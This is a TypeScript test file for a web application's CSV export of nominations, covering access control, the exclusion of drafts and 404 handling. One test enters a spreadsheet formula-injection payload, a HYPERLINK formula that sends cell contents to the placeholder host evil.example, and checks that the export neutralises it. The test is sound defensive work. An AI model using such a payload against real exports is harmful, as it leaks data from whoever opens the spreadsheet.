import supertest from 'supertest';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { logInAs, makeTestApp, type TestApp } from '../../helpers/app.js';
import { bogotaForm, idFromLocation, NOMINATION, NOW, parseCsv, VACANCY } from './nomination-records.js';

const CSV = `/vacancies/${VACANCY.athens}/nominations.csv`;

describe('the CSV export of a vacancy’s nominations (secretariat)', () => {
  let t: TestApp;
  beforeEach(async () => {
    t = await makeTestApp({ now: NOW });
  });
  afterEach(async () => t.close());

  it('downloads a CSV attachment with a header row and one row per nomination', async () => {
    const response = await (await logInAs(t, 'secretariat')).get(CSV);
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="[^"]+\.csv"$/);

    const [header, ...rows] = parseCsv(response.text);
    expect(header).toEqual(
      expect.arrayContaining(['id', 'status', 'nominee', 'city', 'country', 'statement']),
    );
    expect(rows.every((row) => row.length === header!.length)).toBe(true);
    const id = header!.indexOf('id');
    const city = header!.indexOf('city');
    expect(rows.map((row) => [Number(row[id]), row[city]])).toEqual([
      [NOMINATION.montevideo, 'Montevideo'],
      [NOMINATION.dhakaNorth, 'Dhaka North'],
      [NOMINATION.zurich, 'Zurich'],
    ]);
  });

  it('leaves drafts out: they are still their nominators’ own', async () => {
    const bogota = await logInAs(t, 'nominator.bogota');
    const draft = await bogota.post('/nominations', bogotaForm({ consent: undefined, intent: 'draft' }));
    const draftId = idFromLocation(draft.headers.location);
    const [header, ...rows] = parseCsv((await (await logInAs(t, 'secretariat')).get(CSV)).text);
    const ids = rows.map((row) => Number(row[header!.indexOf('id')]));
    expect(ids).toHaveLength(3);
    expect(ids).not.toContain(draftId);
  });

  it('defuses a statement a spreadsheet would run as a formula', async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for details")';
    const bogota = await logInAs(t, 'nominator.bogota');
    const submitted = await bogota.post(
      '/nominations',
      bogotaForm({ statement: formula, nomineeName: '+Carlos', nomineeTitle: '@Mayor' }),
    );
    const id = idFromLocation(submitted.headers.location);

    const response = await (await logInAs(t, 'secretariat')).get(CSV);
    const [header, ...rows] = parseCsv(response.text);
    const row = rows.find((cells) => Number(cells[header!.indexOf('id')]) === id)!;
    const statement = row[header!.indexOf('statement')]!;
    expect(statement).toMatch(/^['"]/);
    expect(statement).toContain(formula);
    expect(row[header!.indexOf('nominee')]).toMatch(/^['"]/);
    expect(row[header!.indexOf('title')]).toMatch(/^['"]/);
    // No line of the raw file starts a cell with the formula.
    expect(response.text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('refuses board members, partners and nominators (403), and sends an anonymous visitor to /login', async () => {
    for (const account of ['mayor.milan', 'partner.c40', 'nominator.zurich']) {
      const response = await (await logInAs(t, account)).get(CSV);
      expect(response.status, account).toBe(403);
      expect(response.text, account).not.toContain('Anna Keller');
    }
    const anonymous = await supertest(t.app.server).get(CSV);
    expect(anonymous.status).toBe(303);
  });

  it('answers 404 for a vacancy that does not exist', async () => {
    expect((await (await logInAs(t, 'secretariat')).get('/vacancies/999/nominations.csv')).status).toBe(404);
  });
});
